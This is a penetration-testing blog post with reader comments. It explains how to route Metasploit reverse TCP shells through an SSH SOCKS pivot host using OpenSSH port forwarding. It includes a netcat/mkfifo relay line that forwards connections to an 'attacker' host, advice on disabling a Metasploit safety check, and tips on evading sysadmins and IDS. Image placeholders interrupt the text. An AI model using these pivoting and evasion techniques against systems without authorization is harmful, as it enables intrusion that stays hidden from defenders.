Using SSH Socks Proxies with MSF Reverse TCP Payloads

Regularly pentesters need to redirect their network traffic through various proxy hosts to access private network subnets, bypass firewall restrictions or hide their traces. Identifying those needs, professionals have armored their tool arsenal with various tunneling and forwarding tools in order to work efficiently under various network architectures and testing cases. Each working case strongly depends on the proxy host’s running services and obtained access level to those services.

One of my favorite cases (and I believe to many others too) is the OpenSSH Socks Proxy scenario. Remote SSH access to the proxy host is available offering flexible ways to redirect network traffic via the SSH channel. However, there exist a main drawback in the Socks Proxy case, you “can’t” use the available reverse TCP payloads delivered with the Metasploit framework (and any other similar tools). Actually, this is not 100% true. There exist some OpenSSH forward features that can be used/combined to bypass this restriction.

Many of you might say that there exist many alternatives to TCP reverse payloads such as PHP, Java, HTTP, DNS etc. That’s true, although many of them are application specific and are not fully stable under certain circumstances. Additionally, these alternatives might not be always applicable due to some exploitation restrictions.

Some others might also say that Metasploit’s meterpreter pivot features (framework routes + port forward) can be used to redirect traffic through the proxy host, avoiding Socks usage.The drawback in this case is that if the proxy host is a linux box the matching meterpreter payload is not stable enough (at least it wasn’t when this post was written).

Now that you have been convinced that under certain circumstances the Socks proxy is the only stable option, lets see how we can deal with the reverse TCP restrictions.

When a reverse TCP payload is used, the victim host tries to connect back to the requestor’s source IP address. If SSH Socks proxy is used the source IP address from the victim’s perspective is the proxy’s IP address. Consequently, the reverse TCP payload will try to connect back to the proxy and not to the attacker’s address. The Metasploit framework successfully identifies this problem and raises an error exception when a socks proxy is used with a reverse TCP payload.

The main concept to bypass this restriction is to use a forwarding mechanism in the proxy to deliver the network packets to the correct addresses when a reverse connection reaches the proxy. The presented methods are feasible when the following requirements are met:

  1. Available remote SSH access to the proxy host (single user or root, each case is analyzed separately)
  2. Proxy host has at least one unused firewall incoming (from the victim) allowed port
  3. Proxy host can access the target host

For the rest of the article the following network topology will be used for the examine cases:

Initially lets establish the SSH Socks proxy with the pivot host and test the socks proxy connectivity via the proxychains tool:

The SSH socks proxy works and we can use it to access the victim host:

Now if we try to use the Socks proxy with a reverseTCP payload, Metasploit raises an exception:

OpenSSH port forward features can help us to bypass this restriction. Two cases will be examined according to the access level that the attacker has on the proxy host:

  1. Root Access: Modify OpenSSH configuration and use the remote port forward feature
  2. Single User Access: Use OpenSSH local port forward mechanism by establishing a second SSH channel

For those not familiar with local & remote SSH port forward features you can refer to the end references.

Before continuing lets disable metasploit’s reverse TCP socks proxy check to confirm both test cases under the framework. Lucky for us framework’s modular architecture makes such code hacks easy to implement. So just comment lines 68-70 at “lib/msf/core/handler/reverse_tcp.rb


1. Root Access to Proxy Host

OpenSSH remote port forwarding feature is used to redirect incoming traffic to port4444 on proxy host to port 53 on the attacker. As the OpenSSH manuals mentions, by default remote port forwarding will bind the proxy port (4444 in our case) on the localhost address. Binding to localhost will block victim incoming connections. So we need root access to modify the sshd configuration and enable GatewayPorts option.

When the payload is triggered the network paths are as follow:

Before proceeding to the framework usage lets check with some simple netcat connection that the setup works:

If instead of the attacker’s IP address you use the localhost address, the forward channel will work like a charm (actually this is the correct approach), although metasploit’s session manager will fail to identify the connection and will crash. Some tcpdump debugging might help at this point to clarify how this forwarders and port binds work.

Having confirmed that our proxy forwarder works lets proceed to the framework. A linux x86 reverse TCP stagged shell payload has been generated and uploaded to the victim host. To trigger the payload a relative PHP script has been placed at the web path. The tricky part while generating the payload is to use as LHOST the proxy’s IP address and as LPORT the port (4444 in this example) that is forwarded to theattacker by the proxy.

Finally lets trigger the payload via a custom auxiliary module (a single GET request) and establish the reverse connection through the socks proxy:


2. Single User Access to Proxy Host

Single user access to theproxy host means that we can’t set the GatewayPorts option at the SSHD configuration. So we need to find an alternative way to implement the forwarder. This time OpenSSH local port forward feature (-L) is used under a second SSH connection to localhost at the proxy host. The -g flag is used to bind the socket at allowing incoming connections apart from localhost. Consequently the reverse connection path is as follow:

The usual netcat tests before proceeding to the framework:

And finally the socks proxy is also successfully working with reverse TCP payloads under the framework:


Here are all the above screenshots in a slide gallery:



Mission accomplished! We have managed to use reverse TCP payloads under SSH Socks proxies taking advantage of the various OpenSSH features. Of course someone might implement the port forwarding at the proxy host with various other ways (iptables, 3rd party tools etc). The OpenSSH way was chosen because it is already available in the SSH Socks proxy scenario and regularly pass undetected from the sysadmins, while a third party tool might trigger some alerts (of course iptables isn’t feasible in a single user access level case).

It would be ideal if the above concept can be somehow implemented in the metasploit framework, making reverse TCP payloads available under certain socks proxy scenarios.




—{ Update 11 June 2012 }—

Proxy’s port forwarding back to the attacker can be also easilyimplemented with netcat. Be careful while using the netcat approach at its plaintext connections might trigger IDS/IPS rulesets. For stealthier communications try to establish an encrypted channel with the proxy (ncat, netcat + stunnel etc).

root@proxy:~# mkfifo pipe
root@proxy:~# nc -nvlp 4444 0<pipe | nc attacker 53 1>pipe



A. Bechtsoudis


dirtyfilthyJuly 18th, 2012 at 04:18

Hi, I have a tool to do this automatically (at least if you have root). It’s pretty painful doing it manually. Need to implement the mkfifo method at some point.

anestisbJuly 18th, 2012 at 13:08

Appreciate the info dirtyfilthy. Great work on automating the dirty part. Whiledeveloping the non-root case keep in mind possible stability issues with your forwarder. Spotted lately many connection crashes when using the mkfifo approach under burst data transfers.

dirtyfilthyJuly 19th, 2012 at 03:50

Cheers man!

newbieSeptember 16th, 2012 at 13:43

man I have a question, = attacker machine or different machine?

anestisbSeptember 16th, 2012 at 16:27

pwnbin is the pivot/proxy host that the pen-tester/attacker has remote SSH access (with various privileges).

adigaproFebruary 24th, 2013 at 00:01

oh yah you are great man, this is the best tutorial about this and Somewhat difficult,, but i have question ,, can the attacker PC be the SERVER too ,, what about this case ,, please help me , i tried somuch , and i need your help,,sorry for my english